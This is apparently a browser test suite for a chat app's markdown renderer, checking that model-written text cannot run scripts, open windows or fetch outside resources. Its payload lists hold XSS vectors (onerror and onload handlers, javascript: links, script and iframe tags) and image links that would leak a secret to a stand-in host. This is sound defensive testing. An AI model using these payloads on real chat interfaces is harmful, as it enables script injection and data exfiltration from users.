"""Whatever a model writes, the page's document holds nothing from outside a list, and nothing of it runs or is fetched.

The list here is the test's own. Texts are drawn as they are, without what the server does to them first: the list must
hold alone.
"""

from __future__ import annotations

from collections.abc import AsyncGenerator, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.async_api import Browser, Request, expect

from qwen_app.ui.shared.render import safe_markdown
from tests.browser.conftest import OpenChat
from tests.browser.hostile_markdown import EVIL, MUTATIONS, PAYLOADS
from tests.browser.markdown_page import MarkdownPage, running_markdown_page
from tests.examples import examples

AT_ONCE = 60  # texts drawn at a time

OUTSIDE_THE_LIST = Path(__file__).with_name("outside_the_list.js").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def markdown_url() -> Iterator[str]:
    with running_markdown_page() as url:
        yield url


@pytest.fixture(scope="module")
async def drawing(browser: Browser, markdown_url: str) -> AsyncGenerator[Watched, None]:
    context = await browser.new_context()
    watched = Watched(MarkdownPage(await context.new_page()))
    await watched.open(markdown_url)
    yield watched
    await context.close()


class Watched:
    """The page, and what happened on it that must not."""

    def __init__(self, markdown: MarkdownPage) -> None:
        self.markdown = markdown
        self.happened: list[str] = []

    async def open(self, url: str) -> None:
        page = self.markdown.page
        await page.expose_function("pwn", lambda *_: self.happened.append("a script ran"))

        async def refuse_dialog(dialog: Any) -> None:
            self.happened.append("a dialog opened")
            await dialog.dismiss()

        page.on("dialog", refuse_dialog)
        page.on("popup", lambda _: self.happened.append("a window opened"))
        page.on("framenavigated", lambda frame: self.happened.append(f"went to {frame.url}"))
        page.on("requestfinished", lambda request: self._note(request.url))
        await page.goto(url)
        await page.locator("#texts textarea").wait_for()
        self.happened.clear()

    def _note(self, url: str) -> None:
        if url.startswith(EVIL) or "mermaid" in url:
            self.happened.append(f"asked for {url}")

    async def problems(self, texts: Sequence[str]) -> list[str]:
        """What is wrong once ``texts`` are drawn."""
        await self.markdown.draw(texts)
        found: list[str] = await self.markdown.page.evaluate(OUTSIDE_THE_LIST)
        return [*found, *self.happened]


@pytest.mark.anyio
@pytest.mark.parametrize("mutation", range(len(MUTATIONS)))
async def test_known_payloads_and_their_mutations(drawing: Watched, mutation: int) -> None:
    assert len(set(PAYLOADS)) >= 103
    texts = [MUTATIONS[mutation](payload) for payload in PAYLOADS]
    for start in range(0, len(texts), AT_ONCE):
        assert await drawing.problems(texts[start : start + AT_ONCE]) == []


PIECES = [
    *(
        "\n",
        "\n\n",
        " ",
        "   ",
        "\t",
        "```",
        "````",
        "~~~",
        "`",
        "``",
        "- ",
        "1. ",
        "> ",
        "# ",
        "|",
        "|-|\n",
        "*",
        "**",
    ),
    *("<", ">", "</", "/>", '"', "'", "=", "&lt;", "&#60;", "<!--", "-->", "<b>", "</b>", "<p>", "</div>", "\\", "$$"),
    *("[a](", ")", "![a](", "](javascript:pwn())", "](http://evil.invalid)", "mermaid\n", "html\n", "graph TD;A-->B\n"),
    *("\\(", "\\)", "\\frac{a}{b}", "\\text{", "}", "word", "\u2060", "\0", "<form>", "<img src=x onerror=pwn()>"),
    *("<svg onload=pwn()>", "<style>", "<math><mtext>", "<table><tr>", "<div style='position:fixed' id=composer>"),
    *("<input name=attributes>", "<a href=javascript:pwn()>", "<template>", "<div class=mermaid>", "onclick=pwn() "),
]
MARKDOWN = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


@pytest.mark.anyio
@settings(max_examples=examples(12), suppress_health_check=list(HealthCheck))
@given(texts=st.lists(MARKDOWN, min_size=40, max_size=40))
async def test_generated_markdown(drawing: Watched, texts: list[str]) -> None:
    assert await drawing.problems(texts) == []


@pytest.mark.anyio
@settings(max_examples=examples(4), suppress_health_check=list(HealthCheck))
@given(texts=st.lists(MARKDOWN, min_size=40, max_size=40))
async def test_generated_markdown_as_the_server_sends_it(drawing: Watched, texts: list[str]) -> None:
    assert await drawing.problems([safe_markdown(text) for text in texts]) == []


@pytest.mark.anyio
async def test_what_is_allowed_is_drawn(drawing: Watched) -> None:
    text = (
        "# Title\n\n**bold** *it* ~~old~~ `code` [link](https://x.org) <sub>2</sub>\n\n- [x] done\n\n3. three\n\n"
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n\n> said\n\n```python\nprint(1)\n```\n\n$$\\frac{\\sqrt{x}}{2}$$\n\n"
        f"![cat]({EVIL}/cat.png)\n\n---\n"
    )
    assert await drawing.problems([text]) == []
    drawn = drawing.markdown.page.locator("#conversation .md").first
    for selector in (
        *("h1", "strong", "em", "del", "p > code", "sub", "input[checked]", "ol[start='3']", "td[align=center]"),
        *("blockquote", "pre .token", ".copy_code_button svg path", ".katex math mfrac", ".katex-html svg", "hr"),
    ):
        await expect(drawn.locator(selector).first).to_be_attached()
    picture = drawn.locator(f"a[href='{EVIL}/cat.png']")
    assert "cat" in (await picture.text_content() or "")
    assert await drawn.locator("img").count() == 0


@pytest.mark.anyio
async def test_nothing_drawn_reaches_over_its_own_box(drawing: Watched) -> None:
    await drawing.problems(["quiet", "$$\\smash{\\raisebox{9em}{\\colorbox{white}{over}}}$$"])
    box = await drawing.markdown.page.locator("#conversation .md").first.bounding_box()
    assert box is not None
    on_top = await drawing.markdown.page.evaluate(
        "([x, y]) => document.elementFromPoint(x, y).textContent", [box["x"] + 2, box["y"] + box["height"] / 2]
    )
    assert "over" not in on_top


HOSTILE = [
    "<img src=x onerror=\"document.body.dataset.hit='1'\">",
    "<script>document.body.dataset.hit='1'</script>",
    '<svg onload="document.body.dataset.hit=1"></svg>',
    "<style>body{display:none}</style>",
    "[click](javascript:document.body.dataset.hit=1)",
    "![leak](http://leak.invalid/?q=secret)",
    "![leak][1]\n\n[1]: http://leak.invalid/2",
    "```mermaid\ngraph TD; A[<img src=http://leak.invalid/3>]-->B\n```",
    "$$\\href{javascript:document.body.dataset.hit=1}{x}$$",
    '<iframe src="http://leak.invalid/4"></iframe>',
    "    ```\n![leak](http://leak.invalid/5)\n    ```",
    "\\`![leak](http://leak.invalid/6)\\`",
]


@pytest.mark.anyio
async def test_the_real_page_holds_the_list_runs_nothing_and_fetches_nothing(
    open_chat: OpenChat, scripted: str
) -> None:
    chat = await open_chat(scripted)
    outside: list[str] = []

    def note(request: Request) -> None:
        if "127.0.0.1" not in request.url and not request.url.startswith(("data:", "blob:")):
            outside.append(request.url)

    chat.page.on("request", note)
    await chat.ask("say: 1. a\n   ```\nx\n<form id=composer><input type=password></form><img src=x onerror=pwn()>")
    hostile = await chat.ask("say: Text first.\n\n" + "\n\n".join(HOSTILE))
    await expect(hostile).to_contain_text("script>document.body")
    assert await chat.page.evaluate(OUTSIDE_THE_LIST) == []
    assert await chat.answers.locator("form, img, [id], svg[id^=mermaid], iframe, style, script").count() == 0
    assert await chat.page.locator("#composer").count() == 1
    assert await chat.page.evaluate("document.body.dataset.hit") is None
    assert outside == []
